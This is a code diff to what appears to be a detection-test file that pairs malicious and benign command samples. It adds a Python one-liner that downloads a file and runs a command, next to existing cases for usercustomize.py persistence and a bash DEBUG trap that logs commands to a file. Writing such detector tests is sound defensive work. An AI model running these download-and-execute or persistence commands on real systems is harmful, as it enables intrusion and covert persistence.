@@ -534,6 +534,10 @@ CASES: dict[str, tuple[EnrichedEvent, EnrichedEvent]] = {
         file_access("/root/.local/lib/python3.11/site-packages/usercustomize.py", WRITE),
         file_access("/root/.local/lib/python3.11/site-packages/usercustomize.py", ("read",)),
     ),
+    "foothold.interpreter-download-exec": (
+        run("python3 -c 'import os,urllib.request as u;u.urlretrieve(URL,F);os.system(CMD)'"),
+        run("python3 -c 'import urllib.request as u;u.urlopen(HEALTH_URL)'"),
+    ),
     "persistence.shell-trap": (
         run("/bin/bash -c 'trap \"echo $BASH_COMMAND >> /tmp/k\" DEBUG; id'"),
         run("/bin/bash -c 'trap \"rm -f /tmp/lock\" EXIT; id'"),
